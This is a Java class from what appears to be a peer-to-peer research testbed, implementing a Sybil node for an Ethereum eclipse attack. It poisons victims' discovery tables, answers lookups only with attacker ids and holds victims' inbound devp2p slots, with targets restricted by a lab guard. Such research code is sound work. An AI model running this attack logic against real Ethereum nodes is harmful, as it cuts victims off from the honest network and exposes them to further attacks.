package io.p2ptestbed.adversary.ethereum;

import io.p2ptestbed.adversary.lab.LabGuard;
import io.p2ptestbed.overlay.ethereum.DevP2p;
import io.p2ptestbed.overlay.ethereum.Discv4;
import io.p2ptestbed.overlay.ethereum.EthNode;
import io.p2ptestbed.overlay.ethereum.EthTable;
import io.p2ptestbed.overlay.ethereum.NodeKey;
import io.p2ptestbed.overlay.id.Contact;
import io.p2ptestbed.overlay.id.NodeAddress;
import io.p2ptestbed.overlay.id.NodeId;
import io.p2ptestbed.overlay.spi.OverlayNode;
import io.p2ptestbed.overlay.time.Scheduler;
import io.p2ptestbed.overlay.transport.Transport;
import io.p2ptestbed.overlay.transport.stream.CloseReason;
import io.p2ptestbed.overlay.transport.stream.Connection;
import io.p2ptestbed.overlay.transport.stream.ConnectionHandler;
import io.p2ptestbed.overlay.transport.stream.PerConnection;
import io.p2ptestbed.overlay.transport.stream.StreamTransport;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;

/**
 * One node id of Marcus, Heilman and Goldberg's attacker, at its own UDP/TCP port on one of the attacker's few
 * IP addresses. On discovery v4 it pings victims with its own key ({@link #poison}: the victim answers, bonds back,
 * and adds it to its table and db), answers pings, and answers every findnode with the attacker's own ids closest
 * to the target (the {@link Roster}), so a victim's lookups find only attacker nodes. On devp2p it accepts the
 * victim's dials (Hello answered, connection held, nothing relayed) and {@link #hold}s inbound slots of a victim,
 * retrying once a second for a bounded time. Every target passes the {@link LabGuard}.
 */
public final class EthSybil implements OverlayNode {

    /** The attacker's ids, shared by its Sybils (immutable once built). */
    public static final class Roster {
        final List<EthTable.Node> nodes = new ArrayList<>();

        public void add(NodeKey key, NodeAddress address) {
            nodes.add(new EthTable.Node(key.id(), address, address.port()));
        }

        public int size() {
            return nodes.size();
        }

        List<Discv4.NodeRecord> closest(byte[] target, int k) {
            byte[] th = NodeKey.keccak256(target);
            List<EthTable.Node> all = new ArrayList<>(nodes);
            all.sort(EthTable.byDistanceTo(th));
            List<Discv4.NodeRecord> out = new ArrayList<>();
            for (EthTable.Node n : all.subList(0, Math.min(k, all.size()))) {
                out.add(n.record());
            }
            return out;
        }
    }

    /** Attempts to (re)take a victim's inbound slot, one a second at most. */
    public static final int HOLD_ATTEMPTS = 120;

    private final NodeAddress address;
    private final NodeKey key;
    private final Transport udp;
    private final StreamTransport streams;
    private final Scheduler scheduler;
    private final Roster roster;
    private final LabGuard guard;
    private final Map<Long, Connection> held = new LinkedHashMap<>();
    private long pings;
    private long malformed;
    private boolean running;

    public EthSybil(NodeAddress address, NodeKey key, Transport udp, StreamTransport streams, Scheduler scheduler, Roster roster,
                    LabGuard guard) {
        this.address = guard.check(address, "ethereum sybil bind address");
        this.key = key;
        this.udp = udp;
        this.streams = streams;
        this.scheduler = scheduler;
        this.roster = roster;
        this.guard = guard;
    }

    /** The contact a victim's neighbour set shows for this id (honest ethereum nodes: SHA-1 of the address). */
    public Contact asContact() {
        return new Contact(NodeId.ofAddress(address), address);
    }

    private long expiration() {
        return scheduler.unixSeconds() + 20;
    }

    private Discv4.Endpoint self() {
        return new Discv4.Endpoint(address.ip(), address.port(), address.port());
    }

    private void send(NodeAddress to, Discv4.Packet p) {
        udp.send(to, Discv4.encode(key, p));
    }

    /** Pings {@code victim} with this id, so that it bonds with it and stores it (table, db). */
    public void poison(NodeAddress victim) {
        guard.check(victim, "eclipse victim");
        scheduler.execute(() -> {
            pings++;
            send(victim, new Discv4.Ping(Discv4.VERSION, self(), new Discv4.Endpoint(victim.ip(), victim.port(), victim.port()),
                    expiration(), -1));
        });
    }

    private void onDatagram(NodeAddress from, byte[] data) {
        Discv4.Decoded d;
        try {
            d = Discv4.decode(data);
        } catch (Discv4.MalformedPacket e) {
            malformed++;
            return;
        }
        if (!guard.permits(from)) {
            return;
        }
        if (d.packet() instanceof Discv4.Ping) {
            send(from, new Discv4.Pong(new Discv4.Endpoint(from.ip(), from.port(), from.port()), d.hash(), expiration(), -1));
        } else if (d.packet() instanceof Discv4.FindNode f) {
            List<Discv4.NodeRecord> all = roster.closest(f.target(), 16);
            for (int i = 0; i < all.size(); i += Discv4.MAX_NEIGHBORS) {
                send(from, new Discv4.Neighbors(all.subList(i, Math.min(all.size(), i + Discv4.MAX_NEIGHBORS)), expiration()));
            }
        }
    }

    private DevP2p.Hello hello() {
        return new DevP2p.Hello(DevP2p.P2P_VERSION, "Geth/v1.7.3-stable", List.of(new DevP2p.Cap("eth", 63)), address.port(),
                key.id());
    }

    /** Connects to {@code victim} and holds the connection; retries (at most {@link #HOLD_ATTEMPTS}, 1 s apart) when refused or dropped. */
    public void hold(NodeAddress victim) {
        guard.check(victim, "eclipse victim");
        scheduler.execute(() -> connect(victim, HOLD_ATTEMPTS));
    }

    private void connect(NodeAddress victim, int left) {
        if (!running || left <= 0) {
            return;
        }
        streams.connect(victim, new Side(true) {
            @Override
            void retry() {
                scheduler.schedule(1_000, () -> connect(victim, left - 1));
            }
        });
    }

    /** Connections held now. */
    public int held() {
        int n = 0;
        for (Connection c : held.values()) {
            if (c.isOpen()) {
                n++;
            }
        }
        return n;
    }

    private class Side implements ConnectionHandler {
        final boolean dialler;
        boolean shaken;

        Side(boolean dialler) {
            this.dialler = dialler;
        }

        void retry() {}

        @Override
        public void opened(Connection c) {
            held.put(c.id(), c);
            if (dialler) {
                c.send(DevP2p.encode(hello()));
            }
        }

        @Override
        public void frame(Connection c, byte[] frame) {
            DevP2p.Msg m;
            try {
                m = DevP2p.decode(frame);
            } catch (DevP2p.MalformedFrame e) {
                malformed++;
                c.reset();
                return;
            }
            if (m instanceof DevP2p.Hello && !shaken) {
                shaken = true;
                if (!dialler) {
                    c.send(DevP2p.encode(hello()));
                }
            } else if (m instanceof DevP2p.PingMsg) {
                c.send(DevP2p.encode(new DevP2p.PongMsg()));
            } else if (m instanceof DevP2p.Disconnect) {
                c.close();
            }
        }

        @Override
        public void closed(Connection c, CloseReason reason) {
            held.remove(c.id());
            retry();
        }

        @Override
        public void failed(NodeAddress to, CloseReason reason) {
            retry();
        }
    }

    // --- OverlayNode (an extra node of the runtime, outside the honest network) ---

    @Override
    public String protocol() {
        return EthNode.PROTOCOL;
    }

    @Override
    public NodeId id() {
        return NodeId.ofAddress(address);
    }

    @Override
    public NodeAddress address() {
        return address;
    }

    @Override
    public void start() {
        running = true;
        udp.setHandler(this::onDatagram);
        streams.listen(new PerConnection(() -> new Side(false)));
    }

    @Override
    public CompletableFuture<Void> join(List<NodeAddress> seeds) {
        return CompletableFuture.completedFuture(null);
    }

    @Override
    public void stop() {
        if (!running) {
            return;
        }
        running = false;
        for (Connection c : List.copyOf(held.values())) {
            c.reset();
        }
        held.clear();
        streams.close();
        udp.setHandler((f, d) -> {});
    }

    @Override
    public boolean isRunning() {
        return running;
    }

    @Override
    public List<Contact> neighbours() {
        return List.of();
    }

    @Override
    public Map<String, Long> counters() {
        Map<String, Long> m = new LinkedHashMap<>();
        m.put("pings", pings);
        m.put("held", (long) held());
        m.put("malformed", malformed);
        return m;
    }

    @Override
    public Scheduler scheduler() {
        return scheduler;
    }

    @Override
    public <C> Optional<C> capability(Class<C> type) {
        return type == EthSybil.class ? Optional.of(type.cast(this)) : Optional.empty();
    }
}
